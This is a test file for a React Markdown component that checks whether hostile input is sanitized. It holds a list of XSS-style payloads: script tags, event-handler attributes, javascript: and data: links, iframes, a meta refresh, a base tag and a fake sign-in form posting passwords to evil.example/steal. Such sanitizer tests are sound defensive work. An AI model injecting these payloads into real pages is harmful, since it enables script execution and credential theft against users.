import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { initI18n } from '../../i18n/index.ts';
import Markdown from './Markdown.tsx';

beforeAll(async () => {
  await initI18n();
});
afterEach(cleanup);

function show(text: string): HTMLElement {
  const { container } = render(<Markdown text={text} />);
  return container;
}

/** Every attribute of every element the description produced. */
function attributes(root: HTMLElement): { tag: string; name: string; value: string }[] {
  return [...root.querySelectorAll('*')].flatMap((el) =>
    [...el.attributes].map((a) => ({
      tag: el.tagName.toLowerCase(),
      name: a.name,
      value: a.value,
    })),
  );
}

const HOSTILE: [string, string][] = [
  ['a style tag that hides the app', '<style>body { display: none }</style>\n\nHello'],
  ['an inline style', '<p style="color:red">red</p>'],
  [
    'a full-page overlay',
    '<div style="position:fixed;inset:0;z-index:99999;background:white">Session expired</div>',
  ],
  [
    'a fake sign-in form',
    '<form action="https://evil.example/steal" method="post">\n<input name="email">\n<input type="password" name="pw">\n<button>Sign in</button>\n</form>',
  ],
  ['a script', '<script>window.pwned = 1</script>'],
  ['an image with onerror', '<img src="x" onerror="window.pwned = 1">'],
  ['an svg with onload', '<svg onload="window.pwned = 1"><circle r="4"/></svg>'],
  ['an iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['an object and an embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  [
    'a base and a stylesheet link',
    '<base href="https://evil.example/"><link rel="stylesheet" href="x.css">',
  ],
  ['a javascript: link', '[click me](javascript:window.pwned=1)'],
  ['a mixed-case javascript: link', '[click me](JaVaScRiPt:window.pwned=1)'],
  ['a javascript: reference link', '[click me][x]\n\n[x]: javascript:window.pwned=1'],
  ['a javascript: autolink', '<javascript:window.pwned=1>'],
  ['a data: link', '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a raw HTML javascript: anchor', '<a href="javascript:window.pwned=1">x</a>'],
  ['a javascript: image', '![x](javascript:window.pwned=1)'],
];

describe('Markdown', () => {
  it('renders headings one level down, emphasis, lists, tables and task lists', () => {
    const root = show(
      '# Robot\n\nA **fast** one:\n\n- wheels\n- [x] motors\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    );
    expect(root.querySelector('h1')).toBeNull();
    expect(root.querySelector('h2')?.textContent).toBe('Robot');
    expect(root.querySelector('strong')?.textContent).toBe('fast');
    expect([...root.querySelectorAll('li')].map((li) => li.textContent?.trim())).toEqual([
      'wheels',
      'motors',
    ]);
    expect(root.querySelector('td')?.textContent).toBe('1');
  });

  it('opens links outside the app in a new tab without an opener', () => {
    show('[docs](https://gogoboard.org/docs) and [a class](#/classroom/class)');
    const external = screen.getByRole('link', { name: 'docs' });
    expect(external.getAttribute('href')).toBe('https://gogoboard.org/docs');
    expect(external.getAttribute('target')).toBe('_blank');
    expect(external.getAttribute('rel')).toContain('noopener');
    const inside = screen.getByRole('link', { name: 'a class' });
    expect(inside.getAttribute('target')).toBeNull();
  });

  it.each(HOSTILE)('keeps nothing active from %s', (_what, text) => {
    const root = show(text);
    expect(
      root.querySelectorAll(
        'script, style, form, input:not([type="checkbox"]), button:not([data-testid]), iframe, object, embed, meta, base, link, svg',
      ),
    ).toHaveLength(0);
    for (const { tag, name, value } of attributes(root)) {
      expect(name.startsWith('on'), `${tag}[${name}]`).toBe(false);
      expect(name, `${tag}[${name}]`).not.toBe('style');
      if (name === 'href' || name === 'src') {
        expect(value.trim().toLowerCase(), `${tag}[${name}]`).toMatch(/^(https?:|mailto:|#)/);
      }
    }
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });

  it('shows the text of a javascript: link without making it a link', () => {
    const root = show('[click me](javascript:alert(1))');
    expect(root.textContent).toContain('click me');
    expect(screen.queryByRole('link')).toBeNull();
  });

  it('loads images from this app at once', () => {
    show(`![board](${window.location.origin}/api/v1/uploads/board.png)`);
    const img = screen.getByRole('img', { name: 'board' });
    expect(img.getAttribute('src')).toBe(`${window.location.origin}/api/v1/uploads/board.png`);
    expect(img.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('shows a remote image only after a click on its placeholder', () => {
    show('![tracker](https://evil.example/pixel.png)');
    expect(screen.queryByRole('img')).toBeNull();
    const placeholder = screen.getByRole('button', { name: /evil\.example/ });
    expect(placeholder.textContent).toContain('tracker');
    fireEvent.click(placeholder);
    expect(screen.getByRole('img', { name: 'tracker' }).getAttribute('src')).toBe(
      'https://evil.example/pixel.png',
    );
  });

  it('never loads an image with another protocol', () => {
    const root = show('![x](data:image/svg+xml;base64,PHN2Zy8+) ![y](file:///etc/passwd)');
    expect(root.querySelector('img')).toBeNull();
    expect(screen.getAllByTestId('markdown-image-blocked')).toHaveLength(2);
  });
});
